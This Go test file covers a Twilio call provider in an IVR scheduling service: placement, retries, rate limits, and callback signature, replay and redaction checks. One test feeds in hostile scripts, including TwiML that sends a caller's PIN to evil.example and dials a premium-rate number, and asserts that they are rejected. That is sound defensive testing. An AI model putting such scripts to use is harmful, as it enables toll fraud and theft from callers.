package twilio_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	pb "github.com/ivrsched/ivrsched/codec/ivrschedpb"
	"github.com/ivrsched/ivrsched/internal/providers/provider"
	"github.com/ivrsched/ivrsched/internal/providers/twilio"
	"github.com/ivrsched/ivrsched/internal/providers/twilio/twiliotest"
)

const (
	sid   = "AC0123456789abcdef0123456789abcdef"
	token = "auth-token-1"
)

func call(user, id, script string) *pb.IVRCall {
	return &pb.IVRCall{CallId: id, UserId: user, TaskId: "t-" + id, Phone: "+14155550123", Attempt: 1, Action: &pb.Action{IvrScript: script}}
}

func newProvider(t *testing.T, api, public string, mod func(*twilio.Config)) *twilio.Provider {
	t.Helper()
	cfg := twilio.Config{AccountSID: sid, AuthToken: token, From: "+14155550100", API: api, PublicURL: public,
		ScriptURL: "https://ivr.example/twiml/{script}"}
	if mod != nil {
		mod(&cfg)
	}
	p, err := twilio.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestPlaceSendsWhatTwilioExpects(t *testing.T) {
	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token})
	defer fake.Close()
	p := newProvider(t, fake.URL, "https://ivr.example/", func(c *twilio.Config) {
		c.MachineDetection = twilio.MachineDetectionEnable
		c.Scripts = provider.Scripts{Inline: true, URLHosts: []string{"scripts.example"}}
	})

	res, err := p.Place(context.Background(), call("user 1", "c-1", "welcome"))
	if err != nil {
		t.Fatalf("place: %v (refused: %v)", err, fake.Refused())
	}
	if res.Outcome != pb.Outcome_OUTCOME_PLACED || res.Final || !strings.HasPrefix(res.ProviderCallID, "CA") {
		t.Fatalf("result %+v", res)
	}
	for _, script := range []string{"https://scripts.example/a.xml", "<Response><Say>Hi</Say></Response>"} {
		if _, err := p.Place(context.Background(), call("u2", "c-"+script[:5], script)); err != nil {
			t.Fatalf("script %q: %v", script, err)
		}
	}
	calls := fake.Calls()
	if len(calls) != 3 {
		t.Fatalf("%d calls", len(calls))
	}
	f := calls[0].Form
	cb, _ := url.Parse(f.Get("StatusCallback"))
	if f.Get("To") != "+14155550123" || f.Get("From") != "+14155550100" || f.Get("Url") != "https://ivr.example/twiml/welcome" ||
		cb.Host != "ivr.example" || cb.Path != twilio.CallbackPath || cb.Query().Get("call_id") != "c-1" || cb.Query().Get("user_id") != "user 1" ||
		f.Get("MachineDetection") != "Enable" || f.Get("AsyncAmd") != "true" || f.Get("AsyncAmdStatusCallback") != f.Get("StatusCallback") ||
		len(f["StatusCallbackEvent"]) != 4 || calls[0].IdempotencyKey != "c-1" {
		t.Fatalf("form %v, key %q", f, calls[0].IdempotencyKey)
	}
	if calls[1].Form.Get("Url") != "https://scripts.example/a.xml" || calls[2].Form.Get("Twiml") != "<Response><Say>Hi</Say></Response>" {
		t.Fatalf("scripts: %v / %v", calls[1].Form, calls[2].Form)
	}
	// A script name without a script URL cannot be placed.
	bare := newProvider(t, fake.URL, "https://ivr.example", func(c *twilio.Config) { c.ScriptURL = "" })
	if _, err := bare.Place(context.Background(), call("u", "c-x", "welcome")); err == nil || len(fake.Calls()) != 3 {
		t.Fatalf("no script URL: %v", err)
	}
}

func TestPlaceClassifiesAnswers(t *testing.T) {
	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token, Invalid: []string{"+14155550124"}})
	defer fake.Close()
	p := newProvider(t, fake.URL, "https://ivr.example", nil)

	fake.FailNext(http.StatusTooManyRequests, http.StatusServiceUnavailable)
	_, err := p.Place(context.Background(), call("u", "c-1", "w"))
	if re, ok := provider.AsRetryable(err); !ok || re.Status != 429 || re.RetryAfter != time.Second {
		t.Fatalf("429: %v", err)
	}
	_, err = p.Place(context.Background(), call("u", "c-1", "w"))
	if re, ok := provider.AsRetryable(err); !ok || re.Status != 503 {
		t.Fatalf("503: %v", err)
	}
	if _, err := p.Place(context.Background(), call("u", "c-1", "w")); err != nil {
		t.Fatalf("after the failures: %v", err)
	}

	// Refusals are final, with Twilio's code and message.
	_, err = p.Place(context.Background(), &pb.IVRCall{CallId: "c-2", UserId: "u", Phone: "+14155550124", Action: &pb.Action{IvrScript: "w"}})
	if _, retry := provider.AsRetryable(err); err == nil || retry || !strings.Contains(err.Error(), "21211") {
		t.Fatalf("invalid number: %v", err)
	}
	wrong := newProvider(t, fake.URL, "https://ivr.example", func(c *twilio.Config) { c.AuthToken = "wrong" })
	_, err = wrong.Place(context.Background(), call("u", "c-3", "w"))
	if _, retry := provider.AsRetryable(err); err == nil || retry || !strings.Contains(err.Error(), "401") {
		t.Fatalf("bad credentials: %v", err)
	}
}

func TestSlowAnswerIsRetryable(t *testing.T) {
	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token, Latency: 5 * time.Second})
	defer fake.Close()
	p := newProvider(t, fake.URL, "https://ivr.example", nil)
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	_, err := p.Place(ctx, call("u", "c-1", "w"))
	if _, retry := provider.AsRetryable(err); !retry || !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("slow answer: %v", err)
	}
}

func TestFakeEnforcesCallsPerSecond(t *testing.T) {
	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token, CPS: 1, Burst: 2})
	defer fake.Close()
	p := newProvider(t, fake.URL, "https://ivr.example", nil)
	var n429 int
	for i := range 4 {
		_, err := p.Place(context.Background(), call("u", "c-"+string(rune('a'+i)), "w"))
		if re, ok := provider.AsRetryable(err); ok && re.Status == 429 {
			n429++
		}
	}
	if n429 != 2 || fake.TooMany() != 2 || len(fake.Calls()) != 2 {
		t.Fatalf("429s %d, fake counted %d, accepted %d", n429, fake.TooMany(), len(fake.Calls()))
	}
}

type sink struct {
	mu  sync.Mutex
	got []provider.Status
}

func (s *sink) Publish(_ context.Context, st provider.Status) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, st)
	return nil
}

// The fake places a call whose status callback goes to our endpoint; the
// endpoint checks Twilio's signature against the public URL.
func TestStatusCallbackRoundTrip(t *testing.T) {
	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token})
	defer fake.Close()
	s := &sink{}
	cb := &twilio.Callback{AuthToken: token, CallbackEndpoint: provider.CallbackEndpoint{Sink: s}}
	mux := http.NewServeMux()
	mux.Handle(twilio.CallbackPath, cb)
	srv := httptest.NewServer(mux)
	defer srv.Close()
	cb.PublicURL = srv.URL
	p := newProvider(t, fake.URL, srv.URL, func(c *twilio.Config) { c.MachineDetection = twilio.MachineDetectionEnable })
	if _, err := p.Place(context.Background(), call("u-1", "c-1", "w")); err != nil {
		t.Fatal(err)
	}
	c := fake.Calls()[0]
	steps := []struct {
		status string
		extra  url.Values
		want   pb.Outcome
		final  bool
	}{
		{"ringing", nil, pb.Outcome_OUTCOME_RINGING, false},
		{"", url.Values{"AnsweredBy": {"machine_start"}}, pb.Outcome_OUTCOME_MACHINE, false},
		{"completed", url.Values{"AnsweredBy": {"machine_end_beep"}, "CallDuration": {"31"}}, pb.Outcome_OUTCOME_MACHINE, true},
	}
	for _, st := range steps {
		if code, err := fake.SendStatus(c, st.status, st.extra, true); err != nil || code != http.StatusNoContent {
			t.Fatalf("%s: %d %v", st.status, code, err)
		}
	}
	if code, err := fake.SendStatus(c, "completed", nil, false); err != nil || code != http.StatusForbidden {
		t.Fatalf("bad signature: %d %v", code, err)
	}
	if len(s.got) != 3 || cb.Stats.Rejected.Load() != 1 || cb.Stats.Accepted.Load() != 3 {
		t.Fatalf("published %+v, rejected %d", s.got, cb.Stats.Rejected.Load())
	}
	for i, st := range steps {
		g := s.got[i]
		if g.Outcome != st.want || g.Final != st.final || g.CallID != "c-1" || g.UserID != "u-1" || g.ProviderCallID != c.SID {
			t.Errorf("step %d: %+v", i, g)
		}
	}
}

// Behind a proxy, Twilio signs the public URL; the endpoint checks that one
// whatever address the request reached. A stale Timestamp is refused.
func TestCallbackBehindProxyAndStale(t *testing.T) {
	now := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	cb, s := endpoint("https://ivr.example/base/", now)
	public := "https://ivr.example/base" + twilio.CallbackPath + "?call_id=c-1&user_id=u-1"
	send := func(signedURL string, at time.Time) int {
		f := url.Values{"CallSid": {"CA1"}, "CallStatus": {"busy"}, "Timestamp": {at.Format(time.RFC1123Z)}}
		return serve(cb, "http://10.0.0.5:9095"+twilio.CallbackPath+"?call_id=c-1&user_id=u-1", signedURL, f)
	}
	if code := send(public, now.Add(-time.Minute)); code != http.StatusNoContent {
		t.Fatalf("public URL: %d", code)
	}
	if code := send("http://10.0.0.5:9095"+twilio.CallbackPath+"?call_id=c-1&user_id=u-1", now); code != http.StatusForbidden {
		t.Fatalf("signed for the inner address: %d, want 403", code)
	}
	if code := send(public, now.Add(-time.Hour)); code != http.StatusForbidden {
		t.Fatalf("stale: %d, want 403", code)
	}
	if len(s.got) != 1 || s.got[0].Outcome != pb.Outcome_OUTCOME_BUSY || !s.got[0].Final || cb.Stats.Rejected.Load() != 2 {
		t.Fatalf("published %+v, rejected %d", s.got, cb.Stats.Rejected.Load())
	}
}

func TestLoadCredentials(t *testing.T) {
	env := map[string]string{twilio.EnvAccountSID: "ACenv", twilio.EnvAuthToken: "tok-env"}
	if s, tok, err := twilio.LoadCredentials("", func(k string) string { return env[k] }); err != nil || s != "ACenv" || tok != "tok-env" {
		t.Fatalf("env: %q %q %v", s, tok, err)
	}
	file := filepath.Join(t.TempDir(), "twilio.env")
	if err := os.WriteFile(file, []byte("# creds\nexport TWILIO_ACCOUNT_SID=ACfile\nTWILIO_AUTH_TOKEN=\"tok-file\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if s, tok, err := twilio.LoadCredentials(file, func(k string) string { return env[k] }); err != nil || s != "ACfile" || tok != "tok-file" {
		t.Fatalf("file: %q %q %v", s, tok, err)
	}
	if _, _, err := twilio.LoadCredentials("", func(string) string { return "" }); err == nil || !strings.Contains(err.Error(), twilio.EnvAuthToken) {
		t.Fatalf("missing: %v", err)
	}
}

// An onboarding command names its script: TwiML or a URL in its place
// would make the operator's account play anything and dial anywhere. By
// default only names pass; the call fails for good and nothing reaches
// Twilio.
func TestScriptsAreNamesByDefault(t *testing.T) {
	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token})
	defer fake.Close()
	p := newProvider(t, fake.URL, "https://ivr.example", nil)
	for _, script := range []string{
		`<Response><Gather action="https://evil.example/pin"/><Dial>+19005550199</Dial></Response>`,
		"https://evil.example/twiml.xml",
		"http://ivr.example/twiml/welcome",
		"",
	} {
		_, err := p.Place(context.Background(), call("u", "c-1", script))
		if _, retry := provider.AsRetryable(err); err == nil || retry {
			t.Errorf("script %q: %v, want a call failed for good", script, err)
		}
	}
	// A premium-rate or shared-cost destination stored before the
	// numbering plan refused it is not dialled either.
	for _, number := range []string{"+19005550199", "+447011111111"} {
		c := call("u", "c-2", "welcome")
		c.Phone = number
		_, err := p.Place(context.Background(), c)
		if _, retry := provider.AsRetryable(err); err == nil || retry || strings.Contains(err.Error(), number) {
			t.Errorf("number %s: %v, want a call failed for good that does not quote the number", number, err)
		}
	}
	if calls := fake.Calls(); len(calls) != 0 {
		t.Fatalf("Twilio was asked to place %v", calls)
	}
}

// A status's ErrorMessage may quote the number, as the API's errors do:
// the published detail masks it.
func TestCallbackDetailIsRedacted(t *testing.T) {
	now := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	cb, s := endpoint("https://ivr.example", now)
	target := "https://ivr.example" + twilio.CallbackPath + "?call_id=c-1&user_id=u-1"
	f := url.Values{"CallSid": {"CA1"}, "CallStatus": {"failed"}, "ErrorCode": {"13224"},
		"ErrorMessage": {"The number +14155550123 is not reachable"}, "Timestamp": {now.Format(time.RFC1123Z)}}
	if code := serve(cb, target, target, f); code != http.StatusNoContent || len(s.got) != 1 ||
		strings.Contains(s.got[0].Detail, "+14155550123") || !strings.Contains(s.got[0].Detail, "ErrorCode=13224") {
		t.Fatalf("%d, published %+v", code, s.got)
	}
}

// endpoint is a callback endpoint at public whose clock says now, and the
// sink it publishes to.
func endpoint(public string, now time.Time) (*twilio.Callback, *sink) {
	s := &sink{}
	return &twilio.Callback{AuthToken: token, PublicURL: public,
		CallbackEndpoint: provider.CallbackEndpoint{Sink: s, Now: func() time.Time { return now }}}, s
}

// serve has cb answer a callback form posted to requestURL, signed over
// signedURL, and returns the HTTP status.
func serve(cb *twilio.Callback, requestURL, signedURL string, f url.Values) int {
	r := httptest.NewRequest(http.MethodPost, requestURL, strings.NewReader(f.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set(twilio.SignatureHeader, twilio.Signature(token, signedURL, f))
	w := httptest.NewRecorder()
	cb.ServeHTTP(w, r)
	return w.Code
}

// Twilio's own request validators accept a signature over the URL with
// its default port added or removed, since what Twilio signed depends on
// how the URL was configured; and Timestamp is RFC 2822, whose day may
// have one digit.
func TestCallbackSignaturePortAndOneDigitDay(t *testing.T) {
	now := time.Date(2026, 6, 1, 10, 0, 0, 0, time.UTC)
	query := twilio.CallbackPath + "?call_id=c-1&user_id=u-1"
	form := func(status string) url.Values {
		return url.Values{"CallSid": {"CA1"}, "CallStatus": {status}, "Timestamp": {"Mon, 1 Jun 2026 09:59:30 +0000"}}
	}
	cases := []struct{ public, signed string }{
		{"https://ivr.example", "https://ivr.example:443" + query},
		{"https://ivr.example:443", "https://ivr.example" + query},
		{"http://127.0.0.1", "http://127.0.0.1:80" + query},
		{"https://ivr.example:8443", "https://ivr.example:8443" + query},
	}
	for _, c := range cases {
		cb, s := endpoint(c.public, now)
		if code := serve(cb, "http://10.0.0.5:9095"+query, c.signed, form("ringing")); code != http.StatusNoContent || len(s.got) != 1 {
			t.Errorf("public %s, signed over %s: %d, published %d", c.public, c.signed, code, len(s.got))
		}
	}
	// Another port is another URL.
	cb, _ := endpoint("https://ivr.example", now)
	if code := serve(cb, "http://10.0.0.5:9095"+query, "https://ivr.example:8443"+query, form("busy")); code != http.StatusForbidden {
		t.Errorf("signed over another port: %d, want 403", code)
	}
}

// A signed call-progress callback without Timestamp could be replayed
// forever: it is refused. A status sent again (a replay within the age
// Timestamp allows, or Twilio's retry) is answered 204 but published
// once. The answering-machine result, which Twilio sends without a
// Timestamp, is taken once.
func TestCallbackTimestampRequiredAndRepeatsDropped(t *testing.T) {
	now := time.Date(2026, 6, 1, 10, 0, 0, 0, time.UTC)
	cb, s := endpoint("https://ivr.example", now)
	target := "https://ivr.example" + twilio.CallbackPath + "?call_id=c-1&user_id=u-1"
	ts := now.Add(-time.Minute).Format(time.RFC1123Z)
	if code := serve(cb, target, target, url.Values{"CallSid": {"CA1"}, "CallStatus": {"ringing"}}); code != http.StatusForbidden {
		t.Fatalf("no Timestamp: %d, want 403", code)
	}
	for _, f := range []url.Values{
		{"CallSid": {"CA1"}, "CallStatus": {"ringing"}, "Timestamp": {ts}},
		{"CallSid": {"CA1"}, "CallStatus": {"ringing"}, "Timestamp": {ts}}, // a replay
		{"CallSid": {"CA1"}, "AnsweredBy": {"machine_start"}, "MachineDetectionDuration": {"2100"}},
		{"CallSid": {"CA1"}, "AnsweredBy": {"machine_start"}, "MachineDetectionDuration": {"2100"}},
		{"CallSid": {"CA1"}, "CallStatus": {"completed"}, "Timestamp": {ts}},
		{"CallSid": {"CA1"}, "CallStatus": {"completed"}, "Timestamp": {now.Format(time.RFC1123Z)}},
	} {
		if code := serve(cb, target, target, f); code != http.StatusNoContent {
			t.Fatalf("%v: %d, want 204", f, code)
		}
	}
	var got []pb.Outcome
	for _, st := range s.got {
		got = append(got, st.Outcome)
	}
	want := []pb.Outcome{pb.Outcome_OUTCOME_RINGING, pb.Outcome_OUTCOME_MACHINE, pb.Outcome_OUTCOME_ANSWERED}
	if !slices.Equal(got, want) || cb.Stats.Repeated.Load() != 3 || cb.Stats.Accepted.Load() != 3 {
		t.Fatalf("published %v, want %v; repeated %d", got, want, cb.Stats.Repeated.Load())
	}
}

// A status that was not stored (503) is taken when Twilio sends it again.
func TestCallbackRepeatAfterAFailureIsTaken(t *testing.T) {
	now := time.Date(2026, 6, 1, 10, 0, 0, 0, time.UTC)
	cb, s := endpoint("https://ivr.example", now)
	failing := &failOnce{sink: s}
	cb.Sink = failing
	target := "https://ivr.example" + twilio.CallbackPath + "?call_id=c-1&user_id=u-1"
	f := url.Values{"CallSid": {"CA1"}, "CallStatus": {"busy"}, "Timestamp": {now.Format(time.RFC1123Z)}}
	if code := serve(cb, target, target, f); code != http.StatusServiceUnavailable {
		t.Fatalf("first: %d, want 503", code)
	}
	if code := serve(cb, target, target, f); code != http.StatusNoContent || len(s.got) != 1 {
		t.Fatalf("again: %d, published %d", code, len(s.got))
	}
}

// failOnce fails its first Publish, then publishes to sink.
type failOnce struct {
	sink   *sink
	failed bool
}

func (f *failOnce) Publish(ctx context.Context, st provider.Status) error {
	if !f.failed {
		f.failed = true
		return errors.New("kafka is away")
	}
	return f.sink.Publish(ctx, st)
}
